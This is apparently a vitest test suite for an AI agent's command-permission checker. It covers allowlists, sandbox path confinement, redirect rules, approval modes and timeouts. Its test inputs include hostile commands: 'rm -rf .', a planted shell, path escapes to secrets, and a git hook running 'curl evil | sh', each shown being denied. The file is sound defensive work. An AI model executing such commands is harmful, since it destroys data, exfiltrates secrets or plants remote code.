import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { decideCommand, effectiveTimeoutSeconds, type CommandRequest } from '../../../../src/core/commands/decide';
import { commandKey } from '../../../../src/core/commands/parse';
import { ToolError } from '../../../../src/core/errors';
import { parsePolicy, type Mode, type PolicyInput } from '../../../../src/core/policy';
import { makeSandbox, write, type Sandbox } from '../tempWorkspace';

/**
 * decideCommand against a real temporary workspace. `ls`, `cat` and `wc` are read-only programs; `touch` and `cp`
 * change files. Every test builds its own workspace: ws/ (the root, with sub/ and in.txt) beside outside/.
 */
function setup(overrides: Partial<PolicyInput> = {}): { s: Sandbox; decide: (req: CommandRequest | string[], ctx?: Parameters<typeof decideCommand>[2]) => ReturnType<typeof decideCommand> } {
  const s = makeSandbox();
  fs.mkdirSync(path.join(s.ws, 'sub'));
  write(path.join(s.ws, 'in.txt'), 'hello\n');
  const policy = parsePolicy({ root: s.ws, allowCommands: ['ls', 'cat', 'wc', 'echo', 'touch', 'cp', 'sort'], ...overrides });
  return {
    s,
    decide: (req, ctx) => decideCommand(Array.isArray(req) ? { command: req } : req, policy, ctx),
  };
}

describe('decideCommand: the allowlist', () => {
  it('allows a listed command and plans it in the root', () => {
    const { s, decide } = setup();
    const d = decide(['ls', '-la']);
    expect(d.verdict.kind).toBe('allow');
    expect(d.key).toBe('ls -la');
    expect(d.plan?.cwd.real).toBe(s.ws);
    expect(d.plan?.parsed.stages).toEqual([['ls', '-la']]);
  });

  it('stops an unlisted command with COMMAND_NOT_ALLOWED and the rule that decided', () => {
    const { decide } = setup();
    expect(decide(['rm', '-rf', '.']).verdict).toMatchObject({ kind: 'deny', code: 'COMMAND_NOT_ALLOWED', rule: 'allowlist.not-listed' });
  });

  it('stops an unlisted command hidden in a later pipeline stage (ls | rm)', () => {
    const { decide } = setup();
    expect(decide(['ls', '|', 'rm', '-rf', '.']).verdict).toMatchObject({ kind: 'deny', code: 'COMMAND_NOT_ALLOWED' });
  });

  it('allows a pipeline whose every stage is listed', () => {
    const { decide } = setup();
    expect(decide(['cat', 'in.txt', '|', 'sort', '|', 'wc', '-l']).verdict.kind).toBe('allow');
  });

  it('stops a relative path to a program the agent could have written (./ls) when no sandbox is in force', () => {
    const { s, decide } = setup();
    fs.writeFileSync(path.join(s.ws, 'ls'), '#!/bin/sh\n', { mode: 0o755 });
    expect(decide(['./ls']).verdict).toMatchObject({ kind: 'deny', code: 'COMMAND_FORBIDDEN', rule: 'allowlist.workspace-program' });
  });

  it('allows an allowed program by its absolute system path', () => {
    const { decide } = setup();
    const ls = ['/usr/bin/ls', '/bin/ls'].find((p) => fs.existsSync(p))!;
    expect(decide([ls]).verdict.kind).toBe('allow');
  });

  it('stops a shell planted in the workspace under an allowed name and run by absolute path (ws/ls -> /bin/sh)', () => {
    // With cp allowed, `cp -s /bin/sh ls` (or `cp /bin/sh ls`) plants a shell named `ls` in the workspace; the
    // relative-path rule blocks ./ls, but the same file by its absolute path must be blocked too.
    const { s, decide } = setup();
    fs.symlinkSync('/bin/sh', path.join(s.ws, 'ls'));
    expect(decide([path.join(s.ws, 'ls'), '-c', 'id']).verdict.kind).toBe('deny');
  });

  it('treats a|b inside one element as data, not as a pipeline to rm', () => {
    const { decide } = setup();
    const d = decide(['echo', 'a|rm -rf .']);
    expect(d.verdict.kind).toBe('allow');
    expect(d.plan?.parsed.stages).toEqual([['echo', 'a|rm -rf .']]);
  });

  it('in literal mode keeps "|" and ">" as data (cmdshell has no pipelines or redirects)', () => {
    const { s, decide } = setup();
    const d = decide({ command: ['echo', '|', 'rm', '>', 'x'], literal: true });
    expect(d.verdict.kind).toBe('allow');
    expect(d.plan?.stdoutFile).toBeUndefined();
    expect(fs.existsSync(path.join(s.ws, 'x'))).toBe(false);
  });
});

describe('decideCommand: malformed requests never throw', () => {
  it.each<[string, unknown, string]>([
    ['an empty argv', [], 'request.empty'],
    ['a shell string instead of argv', 'ls -la', 'request.empty'],
    ['a trailing |', ['ls', '|'], 'request.pipeline'],
    ['two output redirects', ['echo', 'x', '>', 'a', '>', 'b'], 'request.redirect'],
    ['a NUL byte', ['cat', 'in.txt\0'], 'request.nul'],
  ])('denies %s with BAD_REQUEST', (_what, command, rule) => {
    const { decide } = setup();
    const d = decide({ command: command as string[] });
    expect(d.verdict).toMatchObject({ kind: 'deny', code: 'BAD_REQUEST', rule });
    expect(d.plan).toBeUndefined();
  });
});

describe('decideCommand: the working directory', () => {
  it('plans a call in a subfolder', () => {
    const { s, decide } = setup();
    const d = decide({ command: ['ls'], directory: 'sub' });
    expect(d.verdict.kind).toBe('allow');
    expect(d.plan?.cwd).toMatchObject({ real: path.join(s.ws, 'sub'), relative: 'sub' });
  });

  it.each<[string, (s: Sandbox) => string]>([
    ['a `..` escape', () => '../outside'],
    ['an absolute folder outside', (s) => s.outside],
    ['/etc', () => '/etc'],
    ['the prefix-sharing sibling ws-evil', (s) => s.wsEvil],
  ])('stops running in %s with PATH_OUTSIDE_ROOT', (_what, dir) => {
    const { s, decide } = setup();
    expect(decide({ command: ['ls'], directory: dir(s) }).verdict).toMatchObject({ kind: 'deny', code: 'PATH_OUTSIDE_ROOT' });
  });

  it('stops running in a symlinked folder that leads outside', () => {
    const { s, decide } = setup();
    fs.symlinkSync(s.outside, path.join(s.ws, 'out-link'));
    expect(decide({ command: ['ls'], directory: 'out-link' }).verdict).toMatchObject({ kind: 'deny', code: 'PATH_OUTSIDE_ROOT' });
  });

  it.each([['missing'], ['in.txt']])('denies a working directory that is not a folder (%s) with PATH_NOT_FOUND', (dir) => {
    const { decide } = setup();
    const v = decide({ command: ['ls'], directory: dir }).verdict;
    expect(v).toMatchObject({ kind: 'deny', code: 'PATH_NOT_FOUND' });
    expect(v.kind === 'deny' && v.reason).toContain(dir);
  });
});

describe('decideCommand: redirect targets stay inside the working directory', () => {
  it('plans an output redirect inside the root', () => {
    const { s, decide } = setup();
    const d = decide(['echo', 'hi', '>>', 'out.txt']);
    expect(d.verdict.kind).toBe('allow');
    expect(d.plan?.stdoutFile).toEqual({ target: expect.objectContaining({ real: path.join(s.ws, 'out.txt'), relative: 'out.txt' }), append: true });
  });

  it('plans an input redirect and reports it relative to the root', () => {
    const { s, decide } = setup();
    write(path.join(s.ws, 'sub', 'data.txt'), 'x');
    const d = decide({ command: ['wc', '-l', '<', 'data.txt'], directory: 'sub' });
    expect(d.verdict.kind).toBe('allow');
    expect(d.plan?.stdinFile?.relative).toBe('sub/data.txt');
  });

  const escapes: Array<[string, (s: Sandbox) => string[], string?]> = [
    ['an absolute output path outside', (s) => ['echo', 'x', '>', path.join(s.outside, 'pwned.txt')]],
    ['a `..` output path', () => ['echo', 'x', '>', '../outside/pwned.txt']],
    ['an appending `..` output path', () => ['echo', 'x', '>>', '../outside/pwned.txt']],
    ['an output path into the prefix-sharing sibling', (s) => ['echo', 'x', '>', path.join(s.wsEvil, 'pwned.txt')]],
    ['an output path through a symlinked folder', () => ['echo', 'x', '>', 'out-link/pwned.txt']],
    ['an output path onto a symlinked file outside', () => ['echo', 'x', '>', 'file-link']],
    ['an output path onto a dangling link whose target is outside', () => ['echo', 'x', '>', 'dangling']],
    ['an input path outside (reading a secret)', () => ['cat', '<', '../outside/secret.txt']],
    ['an input path through a symlink', () => ['cat', '<', 'file-link']],
    ['an output path that leaves the call\'s folder (sub/../x.txt from sub)', () => ['echo', 'x', '>', '../x.txt'], 'sub'],
  ];
  it.each(escapes)('stops %s with PATH_OUTSIDE_ROOT and writes nothing', (_what, argv, directory) => {
    const { s, decide } = setup();
    fs.symlinkSync(s.outside, path.join(s.ws, 'out-link'));
    fs.symlinkSync(path.join(s.outside, 'secret.txt'), path.join(s.ws, 'file-link'));
    fs.symlinkSync(path.join(s.outside, 'pwned.txt'), path.join(s.ws, 'dangling'));
    const before = fs.readdirSync(s.outside).sort();
    const d = decide({ command: argv(s), ...(directory && { directory }) });
    expect(d.verdict).toMatchObject({ kind: 'deny', code: 'PATH_OUTSIDE_ROOT' });
    expect(fs.readdirSync(s.outside).sort()).toEqual(before);
    expect(fs.readFileSync(path.join(s.outside, 'secret.txt'), 'utf8')).toBe('outside secret\n');
    expect(fs.existsSync(path.join(s.ws, 'x.txt'))).toBe(false);
  });

  it('stops planting a git hook through an output redirect', () => {
    const { s, decide } = setup();
    fs.mkdirSync(path.join(s.ws, '.git', 'hooks'), { recursive: true });
    expect(decide(['echo', 'curl evil | sh', '>', '.git/hooks/pre-commit']).verdict).toMatchObject({ kind: 'deny', code: 'PATH_PROTECTED', rule: 'protected.git' });
  });

  it('stops overwriting a user-protected file (.env) through a redirect', () => {
    const { decide } = setup({ protectedPaths: ['.env'] });
    expect(decide(['echo', 'X=1', '>', '.env']).verdict).toMatchObject({ kind: 'deny', code: 'PATH_PROTECTED', rule: 'protected.user-glob' });
  });

  it('stops truncating the audit log through a redirect', () => {
    const s0 = makeSandbox();
    const log = write(path.join(s0.ws, 'audit.log'), '');
    const d = decideCommand({ command: ['echo', '', '>', 'audit.log'] }, parsePolicy({ root: s0.ws, allowCommands: ['echo'], ownFiles: [log] }));
    expect(d.verdict).toMatchObject({ kind: 'deny', code: 'PATH_PROTECTED', rule: 'protected.own-file' });
  });

  it('denies an output redirect onto a folder', () => {
    const { decide } = setup();
    expect(decide(['echo', 'x', '>', 'sub']).verdict).toMatchObject({ kind: 'deny', code: 'BAD_REQUEST', rule: 'redirect.output' });
  });

  it('denies an input redirect from a missing file', () => {
    const { decide } = setup();
    expect(decide(['cat', '<', 'missing.txt']).verdict).toMatchObject({ kind: 'deny', code: 'PATH_NOT_FOUND', rule: 'redirect.input' });
  });
});

describe('decideCommand: modes', () => {
  type Row = [Mode, string[], 'allow' | 'ask' | 'deny', string];
  const rows: Row[] = [
    ['auto', ['touch', 'a'], 'allow', 'mode.auto'],
    ['auto', ['echo', 'x', '>', 'o.txt'], 'allow', 'mode.auto'],
    ['readOnly', ['ls'], 'allow', 'mode.readOnly.readOnlyCommand'],
    ['readOnly', ['cat', 'in.txt', '|', 'wc', '-l'], 'allow', 'mode.readOnly.readOnlyCommand'],
    ['readOnly', ['touch', 'a'], 'deny', 'mode.readOnly.command'],
    ['readOnly', ['ls', '|', 'cp', 'in.txt', 'b'], 'deny', 'mode.readOnly.command'],
    ['readOnly', ['ls', '>', 'o.txt'], 'deny', 'mode.readOnly.redirect'],
    ['confirmChanges', ['ls'], 'allow', 'mode.confirmChanges.readOnlyCommand'],
    ['confirmChanges', ['touch', 'a'], 'ask', 'mode.confirmChanges.command'],
    ['confirmChanges', ['ls', '>', 'o.txt'], 'ask', 'mode.confirmChanges.redirect'],
    ['confirm', ['ls'], 'ask', 'mode.confirm.readOnlyCommand'],
    ['confirm', ['touch', 'a'], 'ask', 'mode.confirm.command'],
  ];
  it.each(rows)('%s: %j -> %s (%s)', (mode, argv, kind, rule) => {
    const { decide } = setup({ mode });
    const v = decide(argv).verdict;
    // Among equal verdicts strictest() reports the FIRST rule, so an allow names the allowlist rule, not the mode.
    expect(v).toMatchObject(kind === 'allow' ? { kind } : { kind, rule });
  });

  it('readOnly names the mode in its code', () => {
    const { decide } = setup({ mode: 'readOnly' });
    expect(decide(['touch', 'a']).verdict).toMatchObject({ code: 'MODE_READ_ONLY' });
  });

  it('confirmChanges says which file a redirect writes', () => {
    const { decide } = setup({ mode: 'confirmChanges' });
    const v = decide(['ls', '>', 'o.txt']).verdict;
    expect(v.kind === 'ask' && v.reason).toContain('o.txt');
  });

  it.each<[Mode, string[]]>([
    ['confirm', ['touch', 'a']],
    ['confirmChanges', ['touch', 'a']],
  ])('%s: an exact autoApprove line runs without asking', (mode, argv) => {
    const { decide } = setup({ mode, autoApprove: ['touch a'] });
    expect(decide(argv).verdict.kind).toBe('allow');
  });

  it.each<[Mode]>([['confirm'], ['confirmChanges']])('%s: a remembered session approval runs without asking', (mode) => {
    const { decide } = setup({ mode });
    const d = decide(['touch', 'a'], { preApproved: (k) => k === 'touch a' });
    expect(d.verdict.kind).toBe('allow');
  });

  it('still asks for a command line that differs from the remembered one', () => {
    const { decide } = setup({ mode: 'confirm' });
    expect(decide(['touch', 'b'], { preApproved: (k) => k === 'touch a' }).verdict.kind).toBe('ask');
  });

  it('stops an approval of a harmless argument "x > y" from pre-approving a redirect that writes y', () => {
    const { decide } = setup({ mode: 'confirmChanges' });
    const approved = commandKey(['echo', 'x > y']);
    expect(decide(['echo', 'x', '>', 'y'], { preApproved: (k) => k === approved }).verdict.kind).toBe('ask');
  });

  it('stops an approval given to a literal cmdshell call (echo > y, all data) from pre-approving a real redirect', () => {
    const { s, decide } = setup({ mode: 'confirmChanges' });
    const literal = decide({ command: ['echo', '>', 'y'], literal: true });
    expect(literal.plan?.stdoutFile).toBeUndefined();
    const remembered = new Set([literal.key]);
    const d = decide(['echo', '>', 'y'], { preApproved: (k) => remembered.has(k) });
    expect(d.plan?.stdoutFile?.target.real).toBe(path.join(s.ws, 'y'));
    expect(d.verdict.kind).toBe('ask');
  });

  it('readOnly ignores remembered approvals and autoApprove (a change stays a change)', () => {
    const { decide } = setup({ mode: 'readOnly', autoApprove: ['touch a'] });
    expect(decide(['touch', 'a'], { preApproved: () => true }).verdict).toMatchObject({ kind: 'deny', code: 'MODE_READ_ONLY' });
  });

  it.each<[Mode]>([['auto'], ['confirm'], ['confirmChanges']])('%s: a saved rule or remembered approval never overrides an argument rule (find -delete)', (mode) => {
    const { decide } = setup({ mode, autoApprove: ['find *', 'find . -delete'] });
    expect(decide(['find', '.', '-delete'], { preApproved: () => true }).verdict).toMatchObject({ kind: 'deny', code: 'ARGUMENT_FORBIDDEN' });
  });

  it.each<[Mode]>([['auto'], ['confirm'], ['confirmChanges']])('%s: a saved rule never runs a shell without a sandbox (bash *)', (mode) => {
    const { decide } = setup({ mode, autoApprove: ['bash *'] });
    expect(decide(['bash', '-c', 'id'], { preApproved: () => true }).verdict).toMatchObject({ kind: 'deny', code: 'COMMAND_FORBIDDEN', rule: 'forbidden.shell' });
  });

  it('a remembered approval never overrides a path escape', () => {
    const { decide } = setup({ mode: 'confirm' });
    expect(decide(['echo', 'x', '>', '../outside/p'], { preApproved: () => true }).verdict).toMatchObject({ kind: 'deny', code: 'PATH_OUTSIDE_ROOT' });
  });

  it('keeps the plan for an ask (so the approval card can show it)', () => {
    const { decide } = setup({ mode: 'confirm' });
    const d = decide(['touch', 'a']);
    expect(d.verdict.kind).toBe('ask');
    expect(d.plan?.parsed.stages).toEqual([['touch', 'a']]);
  });
});

describe('timeouts', () => {
  const limits = { defaultTimeoutSeconds: 30, maxTimeoutSeconds: 300 };

  it.each<[number | undefined, number]>([
    [undefined, 30],
    [10, 10],
    [0.5, 0.5],
    [300, 300],
    [301, 300],
    [1e9, 300],
  ])('effectiveTimeoutSeconds(%s) = %s', (requested, expected) => {
    expect(effectiveTimeoutSeconds(requested, limits)).toBe(expected);
  });

  it.each([[0], [-1], [NaN], [Infinity], [-Infinity]])('rejects the timeout %s with BAD_REQUEST', (t) => {
    expect(() => effectiveTimeoutSeconds(t, limits)).toThrow(ToolError);
    try {
      effectiveTimeoutSeconds(t, limits);
    } catch (e) {
      expect((e as ToolError).code).toBe('BAD_REQUEST');
      expect((e as ToolError).rule).toBe('request.timeout');
    }
  });

  it('plans the clamped timeout in milliseconds', () => {
    const { decide } = setup({ maxTimeoutSeconds: 60, defaultTimeoutSeconds: 5 });
    expect(decide({ command: ['ls'] }).plan?.timeoutMs).toBe(5000);
    expect(decide({ command: ['ls'], timeoutSeconds: 2 }).plan?.timeoutMs).toBe(2000);
    expect(decide({ command: ['ls'], timeoutSeconds: 3600 }).plan?.timeoutMs).toBe(60_000);
  });

  it('denies a request with a bad timeout instead of running it without one', () => {
    const { decide } = setup();
    expect(decide({ command: ['ls'], timeoutSeconds: -5 }).verdict).toMatchObject({ kind: 'deny', code: 'BAD_REQUEST', rule: 'request.timeout' });
  });
});
